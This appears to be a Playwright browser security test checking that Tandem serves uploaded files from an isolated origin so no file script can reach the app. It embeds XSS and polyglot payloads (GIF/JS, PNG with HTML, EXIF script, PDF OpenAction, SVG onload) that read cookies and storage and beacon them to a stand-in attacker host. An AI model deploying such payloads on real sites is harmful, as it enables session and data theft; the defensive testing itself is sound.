// A served file cannot script the app's origin (RELIABILITY.md FILE-02),
// in Debian Chromium against a real `tandemd --demo`. Tandem serves
// uploads to browsers from a separate files origin (TANDEM_FILES_URL:
// here localhost, another host than the app's 127.0.0.1, so that none of
// the app's cookies goes there), by a short-lived signed link the API
// gives to whoever may read the file (GET /files/{id}/link, with the
// session's CSRF token); the files origin reads no cookie and no
// Authorization header. The API's own origin serves no download to a
// cookie session at all. Every file answer carries
// `Content-Disposition: attachment`, `X-Content-Type-Options: nosniff`,
// `Content-Security-Policy: sandbox`, CORP same-origin and the type
// sniffed at upload.
//
// An agent and a widget visitor upload, through the real API, files a
// browser would run if it rendered or sniffed them: text that is both
// HTML and JavaScript, the same named .html, a PNG with a page after its
// image, a GIF that is also JavaScript, a JPEG with a script in its EXIF,
// a PDF with an OpenAction script and a page in a comment. HTML, SVG and
// XHTML pages, under any name, and a page with a PDF header inside must
// be refused. Each accepted file's
// script, if it ever ran, would report where it ran and what it read
// (window.__filexss), set a global in its parent, write the origin's
// localStorage and beacon to a routed attacker host.
//
// The signed-in owner's browser then loads each file every way a link or
// a hostile page could: from the API's origin with the cookie alone and
// with the CSRF token added to every request (refused, nothing of the file
// served), then by its link on the files origin: in frames, objects,
// embeds, images and scripts of the app (under its CSP, which lets none of
// them load from the files origin: recorded) and of a page at the app's
// origin without any CSP, and by following the link in the app's tab and
// in a new tab. Nothing may run, no frame of the app's origin may hold a
// document made from a file, a link must download under the served name
// and leave the app in place, every answer the browser saw must carry the
// headers above and come from the files origin, no request to it may
// carry a cookie or a token, and a document of the files origin must find
// none of the app's cookies or storage. The test fails when the API's
// origin serves a cookie session's download again, when files come from
// the app's origin, and when any of the headers is dropped.

import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { buildTandemd, launchBrowser, newPage, startTandemd, TIMEOUT, widgetCall } from "../../../../backend/webwidget/test/browser/harness.mjs";
import { attaching, exif, images, ran, upload } from "./files_common.mjs";

const ATTACKER = "attacker.invalid";
const CANARY = `canary-${Date.now()}`;
// A page at the app's origin with no CSP of its own (the route serves it).
const PROBE = "/file02-probe";

/**
 * js is what a file's script does if a browser runs it: it reports where
 * it ran with the origin's cookies and storage, writes both the parent's
 * globals and the storage, and beacons it all out. No "*" + "/" and no
 * "</script>" in it: it sits inside comments and script elements.
 */
const js = (id) =>
  `var d={id:"${id}",at:location.href,cookie:document.cookie,storage:"-"};` +
  `try{d.storage=JSON.stringify(localStorage);localStorage.setItem("pwned","${id}")}catch(e){d.storage=String(e)}` +
  `try{parent.__pwned=(parent.__pwned||[]).concat(d.id)}catch(e){}` +
  `try{__filexss(JSON.stringify(d))}catch(e){}` +
  `new Image().src="https://${ATTACKER}/beacon?"+encodeURIComponent(JSON.stringify(d))`;
const script = (id) => `<script>${js(id)}</script>`;

/** text is plain text to the sniffer, a page to an HTML parser and a program to a JavaScript one. */
const text = (id) => Buffer.from(`// meeting notes\n//${script(`${id}-html`)}\n${js(`${id}-js`)}\n`);

/**
 * corpus lists the uploads, by a visitor or an agent: each accepted one
 * with the type and name it must be served under, each refused one with
 * what the refusal must say. png and jpeg are real images.
 */
function corpus(png, jpeg) {
  const page = (id) => `<!DOCTYPE html><html><body>${script(id)}</body></html>`;
  const svg = (id) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${js(`${id}-onload`).replaceAll('"', "&quot;")}">${script(id)}</svg>`;
  const pdf = (id) =>
    `%PDF-1.7\n%${page(`${id}-html`)}\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n` +
    `3 0 obj<</S/JavaScript/JS(app.alert\\(document.domain\\))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`;
  const gif = (id) =>
    Buffer.concat([
      Buffer.from("GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=(function(){", "latin1"),
      Buffer.from(`${js(`${id}-js`)}})();//${script(`${id}-html`)}`),
      Buffer.from("\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x00\x3b", "latin1"),
    ]);
  const plain = "text/plain; charset=utf-8";
  return [
    { id: "text", who: "agent", name: "notes.txt", body: text("text"), type: plain, served: "notes.txt" },
    { id: "htmlname", who: "agent", name: "invoice.html", body: text("htmlname"), type: plain, served: "invoice.txt" },
    { id: "png", who: "agent", name: "cat.html", body: Buffer.concat([png, Buffer.from(page("png"))]), type: "image/png", served: "cat.png" },
    { id: "gif", who: "agent", name: "pixel.js", body: gif("gif"), type: "image/gif", served: "pixel.gif" },
    { id: "jpeg", who: "agent", name: "photo.jpg", body: exif(jpeg, page("jpeg")), type: "image/jpeg", served: "photo.jpg" },
    { id: "pdf", who: "agent", name: "invoice.pdf", body: Buffer.from(pdf("pdf")), type: "application/pdf", served: "invoice.pdf" },
    { id: "vtext", who: "visitor", name: "order.htm", body: text("vtext"), type: plain, served: "order.txt" },
    { id: "vpng", who: "visitor", name: "screenshot.png", body: Buffer.concat([png, Buffer.from(page("vpng"))]), type: "image/png", served: "screenshot.png" },
    { id: "vpdf", who: "visitor", name: "receipt.pdf", body: Buffer.from(pdf("vpdf")), type: "application/pdf", served: "receipt.pdf" },
    // Refused: pages and SVG under any name, and a page with a PDF header inside.
    { id: "page", who: "agent", name: "page.html", body: Buffer.from(page("page")), refused: "text/html" },
    { id: "svg", who: "agent", name: "logo.svg", body: Buffer.from(svg("svg")), refused: "image/svg+xml" },
    { id: "xhtml", who: "agent", name: "page.xhtml", body: Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script("xhtml")}</html>`), refused: "xml" },
    { id: "htmlpdf", who: "agent", name: "invoice.pdf", body: Buffer.from(`${page("htmlpdf")}\n%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n`), refused: "content before its header" },
    { id: "vpage", who: "visitor", name: "notes.txt", body: Buffer.from(page("vpage")), refused: "text/html" },
    { id: "vsvg", who: "visitor", name: "logo.png", body: Buffer.from(svg("vsvg")), refused: "image/svg+xml" },
  ];
}

let server;
let browser;

before(async () => {
  server = await startTandemd(buildTandemd());
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await server?.stop();
});

/** widget calls the WidgetService as a visitor (token "" for StartSession). */
const widget = (token, method, body) => widgetCall(server.url, token, method, body);

/**
 * watch collects, by URL, what the context's pages, popups too, emit as
 * event; it returns a function that waits for the first one at a URL
 * (each load here has a URL of its own). A page that is already somewhere
 * when it is opened (a popup) is seen at once, with its main frame.
 */
function watch(context, event, urlOf) {
  const seen = new Map();
  const waiting = new Map();
  const on = (v) => {
    const url = urlOf(v);
    if (seen.has(url)) return;
    seen.set(url, v);
    waiting.get(url)?.(v);
  };
  for (const p of context.pages()) p.on(event, on);
  context.on("page", (p) => {
    p.on(event, on);
    if (event === "framenavigated") on(p.mainFrame());
  });
  return (url) => (seen.has(url) ? Promise.resolve(seen.get(url)) : new Promise((r) => waiting.set(url, r)));
}

/**
 * embed runs in a page: it points a new element of the given kind at url
 * and resolves with what the browser told the page: "load", "error", or
 * "csp" when the page's CSP refused it. A download tells the page nothing
 * (the caller sees it); "timeout" is a failure.
 */
function embed([kind, url, ms]) {
  return new Promise((resolve) => {
    const el = document.createElement(kind);
    el.dataset.file02 = url;
    const done = (how) => {
      clearTimeout(timer);
      document.removeEventListener("securitypolicyviolation", onCsp);
      resolve(how);
    };
    // A report names another origin's URL by its origin alone, and an <embed> blocked fires no event of its
    // own: a plugin load of the URL's origin refused (object-src) is this object's or embed's.
    const plugin = (e) => (kind === "object" || kind === "embed") && e.effectiveDirective === "object-src" && e.blockedURI === new URL(url).origin;
    const onCsp = (e) => (e.blockedURI === url || plugin(e)) && done("csp");
    const timer = setTimeout(() => done("timeout"), ms);
    document.addEventListener("securitypolicyviolation", onCsp);
    el.addEventListener("load", () => done("load"));
    el.addEventListener("error", () => done("error"));
    if (kind === "object") el.data = url;
    else el.src = url;
    // As a hostile page would, to coax a document out of the file.
    if (kind === "object" || kind === "embed") el.type = "text/html";
    document.body.append(el);
  });
}

/**
 * leaks lists what a page holds that only a file's script could have put
 * there (and clears it, so that each is told once), and any frame of the
 * page's origin whose document was made from a file (it could script the
 * origin even if its script did not report).
 */
function leaks() {
  const found = [];
  if (window.__pwned) found.push(`the page's globals were written: ${window.__pwned}`);
  delete window.__pwned;
  try {
    if (localStorage.getItem("pwned")) found.push(`the origin's storage was written: ${localStorage.getItem("pwned")}`);
    localStorage.removeItem("pwned");
  } catch {
    // a sandboxed document (a file shown in a tab under its CSP) has no storage
  }
  for (let i = 0; i < window.frames.length; i++) {
    try {
      const href = window.frames[i].location.href;
      if (href.includes("/files/")) found.push(`a frame of ${location.origin} holds the file ${href}: ${window.frames[i].document.documentElement.outerHTML.slice(0, 200)}`);
    } catch {
      // another origin (a sandboxed document is one): it cannot reach this page
    }
  }
  return found;
}

/**
 * armed opens a fresh browser context signed in to the web app as the
 * owner, with a canary in the origin's storage, the files' marker, the
 * attacker's host routed (and aborted), the page without a CSP, and
 * recorders for the answers to /files/ and what the pages' CSP blocked.
 */
async function armed() {
  const { context, page } = await newPage(browser);
  const w = { context, page, hits: [], beacons: [], answers: [], sent: [], blocked: [], outcomes: new Map() };
  await context.exposeFunction("__filexss", (d) => w.hits.push(d));
  await context.route((u) => u.hostname === ATTACKER, (route) => {
    w.beacons.push(route.request().url());
    return route.abort();
  });
  await context.route(`${server.url}${PROBE}`, (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><title>probe</title><p>a page of the app's origin without a CSP</p>" }));
  // A page of the files origin (the route stands in for it: tandemd serves none), to read what a document there can reach.
  await context.route(`${server.filesUrl}${PROBE}`, (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><title>files probe</title><p>a page of the files origin</p>" }));
  // All the headers (cookies too), read as they come; guards waits for them. A tab that a download closed at once
  // leaves only those Playwright kept (without cookies: that the browser holds none for the files origin is checked below).
  const all = (r) => r.allHeaders().catch(() => r.headers());
  context.on("response", (r) => {
    if (new URL(r.url()).pathname.startsWith("/files/")) w.answers.push(all(r).then((headers) => ({ url: r.url(), status: r.status(), headers })));
  });
  context.on("request", (r) => {
    if (new URL(r.url()).origin === new URL(server.filesUrl).origin) w.sent.push(all(r).then((headers) => ({ url: r.url(), headers })));
  });
  context.on("console", (m) => {
    if (/Content Security Policy/.test(m.text()) && m.text().includes("/files/")) w.blocked.push(m.text());
  });
  // Each load has a URL of its own, so what became of it is found by URL: a download, or a frame showing it.
  w.downloaded = watch(context, "download", (d) => d.url());
  w.shown = watch(context, "framenavigated", (f) => f.url());
  w.answered = watch(context, "response", (r) => r.url());
  await page.goto(`${server.url}/app/`);
  await page.locator("#email").fill("owner@demo.tandem");
  await page.locator("#password").fill("tandem-demo");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.locator("main.panes").waitFor();
  await page.evaluate((c) => localStorage.setItem("file02-canary", c), CANARY);
  w.appUrl = page.url();
  w.csrf = (await context.cookies()).find((c) => c.name === "tandem_csrf")?.value;
  return w;
}

/** apiUrl is a file's download address on the API's origin, made unique per load by via. */
const apiUrl = (f, via) => `${server.url}/files/${f.fileId}?via=${via}`;

/** fileUrl is a file's link on the files origin (linked first), made unique per load by via. */
const fileUrl = (f, via) => `${f.link}&via=${via}`;

/**
 * linked asks the API for f's link as the app does (its session cookie and
 * CSRF token, from the app's page) and keeps it in f.link; it lists what is
 * wrong with it.
 */
async function linked(w, f) {
  const got = await w.page.evaluate(
    async ([id, csrf]) => {
      const res = await fetch(`/files/${id}/link`, { headers: { "Tandem-Csrf": csrf } });
      return { status: res.status, body: await res.json() };
    },
    [f.fileId, w.csrf],
  );
  if (got.status !== 200) return [`the API refused the app a link: ${got.status} ${JSON.stringify(got.body)}`];
  f.link = got.body.url;
  const at = new URL(f.link);
  if (at.origin !== new URL(server.filesUrl).origin || at.hostname === new URL(server.url).hostname) return [`the link ${f.link} is not on the files origin ${server.filesUrl}, another host than ${server.url}`];
  return [];
}

/** reached lists every way a file reached the origin since it last looked: its script's reports and beacons, and what the pages hold. */
async function reached(w, pages) {
  const found = [...w.hits.splice(0).map(ran), ...w.beacons.splice(0).map((b) => `its script beaconed to ${ATTACKER} what it read (${b.length} bytes)`)];
  for (const [where, p] of pages) found.push(...(await p.evaluate(leaks)).map((l) => `${where}: ${l}`));
  return found;
}

/**
 * loadIn points every kind of element at f, in the app and in the page
 * without a CSP at once, and lists what went wrong: a script element
 * that ran the file, or a load the browser never finished.
 */
async function loadIn(w, pages, f) {
  const problems = [];
  const kinds = ["iframe", "object", "embed", "img", "script"];
  await Promise.all(
    pages.flatMap(([where, p]) =>
      kinds.map(async (kind) => {
        const url = fileUrl(f, `${where}-${kind}`);
        const how = await Promise.race([p.evaluate(embed, [kind, url, TIMEOUT]), w.downloaded(url).then(() => "download")]);
        const key = `${where} ${kind}: ${how}`;
        w.outcomes.set(key, (w.outcomes.get(key) ?? 0) + 1);
        if (how === "timeout") problems.push(`the <${kind}> in the ${where} page neither loaded, failed, was refused nor downloaded`);
        // A script the browser refuses fires "error" (CORP, nosniff), or the page's CSP refuses it; one it ran fires "load".
        if (kind === "script" && how === "load") problems.push(`a <script> in the ${where} page ran the file`);
      }),
    ),
  );
  return problems;
}

/**
 * followLink clicks a link to f in the app, in its tab or a new one, and
 * lists what went wrong: the file shown instead of downloaded, under
 * another name, or the app's tab left. A file shown is checked for what it
 * did before the app is opened again.
 */
async function followLink(w, f, target) {
  const problems = [];
  const url = fileUrl(f, `link${target}`);
  await w.page.evaluate(([u, target]) => {
    const a = Object.assign(document.createElement("a"), { href: u, target, rel: "noopener", textContent: "the file" });
    document.body.append(a);
    a.click();
    a.remove();
  }, [url, target]);
  const got = await Promise.race([w.downloaded(url), w.shown(url).then(() => "shown")]);
  if (got === "shown") {
    problems.push(`a link (${target}) showed the file instead of downloading it`);
    const tab = target === "_self" ? w.page : w.context.pages().find((p) => p.url() === url);
    await tab.waitForLoadState("load");
    problems.push(...(await reached(w, [["the file's tab", tab]])));
    if (tab !== w.page) await tab.close();
  } else if (got.suggestedFilename() !== f.served) {
    problems.push(`a link (${target}) downloaded ${got.suggestedFilename()}, not ${f.served}`);
  }
  const key = `link ${target}: ${got === "shown" ? "shown" : "download"}`;
  w.outcomes.set(key, (w.outcomes.get(key) ?? 0) + 1);
  if (w.page.url() !== w.appUrl) {
    problems.push(`a link (${target}) took the app's tab to ${w.page.url()}`);
    await w.page.goto(w.appUrl);
  }
  await w.page.locator("main.panes").waitFor();
  return problems;
}

/**
 * guards lists what is missing from each answer carrying f that the browser
 * saw, and anything of the app's session that went to the files origin.
 */
async function guards(w, f) {
  const got = (await Promise.all(w.answers)).filter((a) => a.url.includes(f.fileId) && a.status === 200 && !new URL(a.url).pathname.endsWith("/link"));
  if (got.length === 0) return ["the browser never received the file"];
  const want = {
    "content-type": f.type,
    "content-disposition": `attachment; filename=${f.served}`,
    "x-content-type-options": "nosniff",
    "content-security-policy": "sandbox; default-src 'none'",
    "cross-origin-resource-policy": "same-origin",
    "access-control-allow-origin": "*",
  };
  const problems = [];
  for (const r of (await Promise.all(w.sent)).filter((r) => r.url.includes(f.fileId))) {
    for (const h of ["cookie", "authorization", "tandem-csrf"]) if (r.headers[h] !== undefined) problems.push(`a request to the files origin carried ${h}: ${r.headers[h].slice(0, 40)}`);
  }
  for (const a of got) {
    if (new URL(a.url).origin !== new URL(server.filesUrl).origin) problems.push(`${a.url}: the file was served from ${new URL(a.url).origin}, not the files origin ${server.filesUrl}`);
    if (a.headers["set-cookie"] !== undefined) problems.push(`${new URL(a.url).search}: the files origin set a cookie`);
    for (const [k, v] of Object.entries(want)) {
      if (a.headers[k] !== v) problems.push(`${new URL(a.url).search}: ${k} is ${JSON.stringify(a.headers[k])}, want ${JSON.stringify(v)}`);
    }
  }
  return problems;
}

describe("a served file cannot script the app's origin", () => {
  test("uploads that would run in a browser are refused or served so that nothing of them runs, in frames, objects, images, scripts or by a link", async (t) => {
    const [png, jpeg] = await images(browser);
    const files = corpus(png, jpeg);

    // A visitor's conversation (files on in the widget), taken over by the owner.
    const { owner, visitor, convId } = await attaching(server.url, server.key);

    // Uploads through the real API: what is accepted keeps its sniffed type, under a name of that type; the rest is refused plainly.
    const sent = { agent: [], visitor: [] };
    for (const f of files) {
      const { status, json } = await upload(server.url, f.who === "agent" ? owner.token : visitor, convId, f);
      if (f.refused !== undefined) {
        assert.equal(status, 400, `${f.id}: ${f.name} is refused: ${JSON.stringify(json)}`);
        assert.equal(json.code, "invalid_argument", `${f.id}: the refusal's code`);
        assert.match(json.message, /^body: files of type .+ are not accepted: send a PDF, an image/, `${f.id}: the refusal says what is accepted`);
        assert.ok(json.message.includes(f.refused), `${f.id}: the refusal names the type (${f.refused}): ${json.message}`);
        continue;
      }
      assert.equal(status, 200, `${f.id}: ${f.name} is accepted: ${JSON.stringify(json)}`);
      assert.equal(json.contentType, f.type, `${f.id}: typed by its content`);
      assert.equal(json.name, f.served, `${f.id}: named for its type`);
      f.fileId = json.id;
      sent[f.who].push(json.id);
    }
    await owner.call("ConversationService", "SendMessage", { conversationId: convId, clientId: crypto.randomUUID(), body: "", fileIds: sent.agent });
    await widget(visitor, "SendMessage", { conversationId: convId, clientId: crypto.randomUUID(), body: "", fileIds: sent.visitor });
    const served = files.filter((f) => f.fileId);

    const w = await armed();
    assert.ok(w.csrf, "the app's CSRF cookie is set");

    // 1. The API's origin serves no download to a cookie session: with the cookie alone, and with the CSRF
    // token added to every request as though that check were gone, the browser's own loads are refused and
    // none of the file is served. Browsers get files from the files origin only.
    const first = served[0];
    for (const csrf of [false, true]) {
      if (csrf) await w.context.setExtraHTTPHeaders({ "Tandem-Csrf": w.csrf });
      for (const kind of ["iframe", "img", "script"]) {
        const url = apiUrl(first, `api-${csrf}-${kind}`);
        await w.page.evaluate(embed, [kind, url, TIMEOUT]);
        const a = await w.answered(url);
        assert.equal(a.status(), 403, `<${kind}> in the app loading the API's /files/{id} with the cookie${csrf ? " and the CSRF token" : " alone"} is refused`);
        // (A refused frame shows the server's JSON error, none of the file.)
        await w.page.evaluate((u) => document.querySelector(`[data-file02="${u}"]`)?.remove(), url);
      }
      const tab = await w.context.newPage();
      const res = await tab.goto(apiUrl(first, `api-${csrf}-tab`));
      assert.equal(res.status(), 403, `following a link to the API's /files/{id} with the cookie${csrf ? " and the CSRF token" : " alone"} is refused`);
      const refusal = await res.text();
      assert.match(refusal, /files origin/, "the refusal says why: browsers download from the files origin");
      assert.ok(!refusal.includes("meeting notes"), "none of the file is served");
      await tab.close();
    }
    await w.context.setExtraHTTPHeaders({});
    assert.deepEqual(await reached(w, [["app", w.page]]), [], "from the API's origin, nothing of the file reached the origin");

    // 2. Each file by its link on the files origin: only the origin and the headers keep each file inert.
    const probe = await w.context.newPage();
    await probe.goto(`${server.url}${PROBE}`);
    const pages = [["app", w.page], ["probe", probe]];
    for (const f of served) {
      const problems = await linked(w, f);
      assert.deepEqual(problems, [], `${f.id}: the app gets a link on the files origin`);
      problems.push(...(await loadIn(w, pages, f)));
      problems.push(...(await reached(w, pages)));
      for (const [, p] of pages) await p.evaluate(() => document.querySelectorAll("[data-file02]").forEach((e) => e.remove()));
      for (const target of ["_self", "_blank"]) problems.push(...(await followLink(w, f, target)), ...(await reached(w, pages)));
      problems.push(...(await guards(w, f)));
      assert.deepEqual(problems, [], `${f.id} (${f.name} from the ${f.who}, served as ${f.type}) reached the origin or came without its guards`);
    }

    // 3. A document of the files origin holds none of the app's session: no cookie (the browser keeps none for
    // that host), no storage of the app's, and no way into the app's page.
    const filesPage = await w.context.newPage();
    await filesPage.goto(`${server.filesUrl}${PROBE}`);
    const there = await filesPage.evaluate((canary) => ({ cookie: document.cookie, canary: localStorage.getItem("file02-canary"), keys: Object.keys(localStorage), origin: location.origin, sawCanary: JSON.stringify(localStorage).includes(canary) }), CANARY);
    assert.equal(there.origin, new URL(server.filesUrl).origin, "the probe is a document of the files origin");
    assert.notEqual(there.origin, new URL(server.url).origin, "the files origin is not the app's");
    assert.deepEqual([there.cookie, there.canary, there.sawCanary, there.keys], ["", null, false, []], "a document of the files origin reads none of the app's cookies or storage");
    assert.deepEqual(await w.context.cookies(server.filesUrl), [], "the browser holds no cookie for the files origin");
    assert.ok((await w.context.cookies(server.url)).some((c) => c.name === "tandem_session"), "while it holds the app's session cookie");
    await filesPage.close();
    assert.equal(await w.page.evaluate(() => localStorage.getItem("file02-canary")), CANARY, "the canary stayed in the origin's storage, where a file's script would have read it");
    t.diagnostic(`what the browser did, times: ${[...w.outcomes].sort().map(([k, n]) => `${k} ×${n}`).join("; ")}`);
    t.diagnostic(`the pages' CSP blocked ${w.blocked.length} loads of files (the app allows no object or embed): ${w.blocked[0] ?? ""}`);
    await w.context.close();
  });
});
